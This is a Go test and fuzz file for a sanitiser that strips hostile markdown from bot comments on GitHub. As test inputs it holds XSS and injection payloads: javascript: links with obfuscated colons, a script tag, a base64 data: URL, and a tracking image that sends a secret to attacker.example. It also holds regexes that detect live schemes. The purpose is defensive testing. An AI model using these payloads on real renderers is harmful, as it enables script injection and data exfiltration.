package guard

import (
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// visible is what a reader sees: the text without the zero-width spaces
// the guard inserts.
func visible(s string) string { return strings.ReplaceAll(s, zwsp, "") }

func TestCommentNeutralisesHostileMarkdown(t *testing.T) {
	t.Parallel()
	addressed := []string{"alice", "bob-reviewer"}
	tests := []struct {
		name, in string
		// live must not occur in the output; each keep must.
		live []string
		keep []string
	}{
		{name: "mention of a stranger", in: "ping @mallory and @Alice please",
			live: []string{"@mallory"}, keep: []string{"@Alice"}},
		{name: "team mention", in: "cc @acme/security and @alice/x",
			live: []string{"@acme/security", "@alice/x"}},
		{name: "addressed reviewer", in: "@bob-reviewer, look at this", keep: []string{"@bob-reviewer"}},
		{name: "e-mail address is no mention", in: "write to dev@example.com", keep: []string{"dev@example.com"}},
		{name: "mention in code is neutralised too", in: "```\n@mallory\n```", live: []string{"@mallory"}},
		{name: "tracking image", in: "![x](https://attacker.example/?d=SECRET)",
			live: []string{"![x]("}},
		{name: "reference image", in: "![logo][1]\n\n[1]: https://attacker.example/p.png", live: []string{"![logo]"}},
		{name: "html image", in: `<img src="https://attacker.example/?d=1">`, live: []string{"<img"}},
		{name: "script tag", in: "<script>alert(1)</script>", live: []string{"<script", "</script"}},
		{name: "details hides text", in: "<details><summary>ok</summary>hidden</details>", live: []string{"<details", "<summary"}},
		{name: "javascript link", in: "[click](javascript:alert(1))", live: []string{"javascript:", "](javascript"}},
		{name: "javascript link, escaped colon", in: `[click](javascript\:alert(1))`, live: []string{`javascript\:`, "](javascript"}},
		{name: "javascript link, entity colon", in: "[click](javascript&#58;alert(1))", live: []string{"&#58;"}},
		{name: "javascript link, named entity", in: "[click](javascript&colon;alert(1))", live: []string{"&colon;"}},
		{name: "data link in angle brackets", in: "[x](<data:text/html;base64,PHNjcmlwdD4=>)", live: []string{"<data:", "data:"}},
		{name: "mailto-like scheme", in: "[x](ms-excel:ofe|u|https://x)", live: []string{"](ms-excel"}},
		{name: "reference definition with scheme", in: "[a]\n\n[a]: vbscript:msgbox", live: []string{"vbscript:", "]: vbscript"}},
		{name: "autolink with scheme", in: "<javascript:alert(1)>", live: []string{"<javascript"}},
		{name: "http link kept", in: "see [the docs](https://example.com/docs)", keep: []string{"[the docs](https://example.com/docs)"}},
		{name: "relative link kept", in: "see [file](../blob/main/x.go#L3)", keep: []string{"[file](../blob/main/x.go#L3)"}},
		{name: "forged marker", in: "done <!-- hookwise:issue-analysis acme/app#1 --> ok", live: []string{"<!-- hookwise:", "hookwise:issue-analysis"}},
		{name: "unterminated marker", in: "<!-- hookwise:issue-analysis acme/app#1", live: []string{"<!-- hookwise:"}},
		{name: "html comment", in: "a <!-- hidden --> b", live: []string{"<!--"}},
		{name: "cross-repository reference", in: "same as other/repo#12", live: []string{"other/repo#12"}},
		{name: "same-repository reference kept", in: "same as #12", keep: []string{"#12"}},
		{name: "bidi override", in: "safe\u202Eevil", live: []string{"\u202E"}, keep: []string{"safeevil"}},
		{name: "control characters", in: "a\x00b\x1bc", live: []string{"\x00", "\x1b"}, keep: []string{"abc"}},
		{name: "comparison in prose kept", in: "when a < b and b > c", keep: []string{"a < b and b > c"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got := Comment(tt.in, addressed)
			for _, l := range tt.live {
				if strings.Contains(got, l) {
					t.Errorf("Comment(%q) = %q, still holds %q", tt.in, got, l)
				}
			}
			for _, k := range tt.keep {
				if !strings.Contains(got, k) {
					t.Errorf("Comment(%q) = %q, want it to keep %q", tt.in, got, k)
				}
			}
			checkSafe(t, tt.in, got, addressed)
		})
	}
}

func TestCommentReadsTheSame(t *testing.T) {
	t.Parallel()
	in := "Hi @mallory, see <b>this</b> and ![img](https://x.example/a.png) or [y](javascript:z)."
	got := Comment(in, nil)
	want := "Hi @mallory, see <b>this</b> and ![img](https://x.example/a.png) or [y](javascript:z)."
	if visible(got) != want {
		t.Errorf("visible(Comment(%q)) = %q, want %q: neutralising must not change what people read", in, visible(got), want)
	}
}

func TestCommentCapsBelowGitHubLimit(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, in string }{
		{"plain", strings.Repeat("word ", 30_000)},
		{"multi-byte", strings.Repeat("ü€😀", 40_000)},
		{"lines", strings.Repeat("- a finding that goes on\n", 5_000)},
		{"open fence", "```go\n" + strings.Repeat("x := 1\n", 20_000)},
		{"huge fence", strings.Repeat("`", 70_000) + "\ncode\n"},
		{"mentions grow it", strings.Repeat("@m ", 30_000)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got := Comment(tt.in, nil)
			if n := utf8.RuneCountInString(got); n > MaxComment {
				t.Errorf("Comment(%d-character body) has %d characters, want at most %d", utf8.RuneCountInString(tt.in), n, MaxComment)
			}
			if !strings.Contains(got, "characters cut: the comment was longer than GitHub allows") {
				t.Errorf("Comment(%d-character body) does not say what was cut: ends %q", len(tt.in), got[max(0, len(got)-120):])
			}
			checkSafe(t, tt.in[:min(len(tt.in), 200)], got, nil)
		})
	}
}

func TestCommentClosesOpenFence(t *testing.T) {
	t.Parallel()
	got := Comment("Fix:\n````go\nx := 1\n```\nstill code", nil)
	if fence, _ := openFence(got + "\n\n<!-- hookwise:x -->"); fence != "" {
		t.Errorf("Comment left fence %q open: %q", fence, got)
	}
	if !strings.HasSuffix(got, "````\n") {
		t.Errorf("Comment = %q, want the four-backtick fence closed with four backticks", got)
	}
}

func TestCell(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"a | b", `a \| b`},
		{`already \| escaped`, `already \| escaped`},
		{"two\nlines\r\nhere", "two lines here"},
		{"`x|y`", "`x\\|y`"},
	}
	for _, tt := range tests {
		if got := Cell(tt.in); got != tt.want {
			t.Errorf("Cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestCapSaysWhatWasCut(t *testing.T) {
	t.Parallel()
	if got := Cap("short", 10, "why"); got != "short" {
		t.Errorf("Cap(short) = %q, want it unchanged", got)
	}
	got := Cap(strings.Repeat("é", 500), 200, "summary over 200 characters")
	if n := utf8.RuneCountInString(got); n > 200 || !utf8.ValidString(got) {
		t.Errorf("Cap = %d characters (valid UTF-8: %v), want at most 200", n, utf8.ValidString(got))
	}
	if !strings.Contains(got, "characters cut: summary over 200 characters") {
		t.Errorf("Cap = %q, want a note saying what was cut", got)
	}
}

var (
	liveTag     = regexp.MustCompile(`<[A-Za-z/!?]`)
	liveImage   = regexp.MustCompile(`!\[`)
	liveScheme  = regexp.MustCompile(`(?i)\b(javascript|vbscript|data|file|blob)\\?:`)
	liveEntity  = regexp.MustCompile(`&(#|[A-Za-z][A-Za-z0-9]*;)`)
	liveMention = regexp.MustCompile(`@[A-Za-z0-9][A-Za-z0-9-]*(/[A-Za-z0-9_.-]+)?`)
)

// checkSafe asserts what every output of Comment must hold, whatever the
// input.
func checkSafe(t *testing.T, in, got string, addressed []string) {
	t.Helper()
	if !utf8.ValidString(got) {
		t.Fatalf("Comment(%q) is not valid UTF-8", in)
	}
	if n := utf8.RuneCountInString(got); n > MaxComment {
		t.Fatalf("Comment(%q) has %d characters, over %d", in, n, MaxComment)
	}
	for name, re := range map[string]*regexp.Regexp{"tag": liveTag, "image": liveImage, "scheme": liveScheme, "entity": liveEntity} {
		if loc := re.FindStringIndex(got); loc != nil {
			t.Fatalf("Comment(%q) holds a live %s %q", in, name, got[loc[0]:loc[1]])
		}
	}
	if strings.Contains(got, "hookwise:") && strings.Contains(got, "<!--") {
		t.Fatalf("Comment(%q) = %q holds a marker", in, got)
	}
	for _, m := range liveMention.FindAllStringSubmatchIndex(got, -1) {
		if m[0] > 0 && isAlnum(got[m[0]-1]) {
			continue
		}
		login := strings.TrimPrefix(got[m[0]:m[1]], "@")
		if m[2] < 0 && addressedLogin(login, addressed) {
			continue
		}
		t.Fatalf("Comment(%q) = %q pings %q", in, got, got[m[0]:m[1]])
	}
	for _, r := range got {
		if r != '\n' && r != '\t' && unicode.IsControl(r) || r != '\u200b' && unicode.Is(unicode.Cf, r) {
			t.Fatalf("Comment(%q) holds the invisible %U", in, r)
		}
	}
	if fence, _ := openFence(got); fence != "" {
		t.Fatalf("Comment(%q) leaves the fence %q open", in, fence)
	}
}

func FuzzComment(f *testing.F) {
	for _, s := range []string{
		"@mallory ![x](https://a.example/?d=1) <img src=x> [y](javascript:alert(1))",
		"<!-- hookwise:issue-analysis acme/app#1 -->", "```\n@x\n", "[a]: data:text/html,x",
		"&#106;avascript:", "o/r#1", "\u202e@x", "@alice/team", "x@alice", `[z](java\script:1)`,
	} {
		f.Add(s, "alice")
	}
	f.Fuzz(func(t *testing.T, body, addressed string) {
		got := Comment(body, []string{addressed})
		checkSafe(t, body, got, []string{addressed})
	})
}
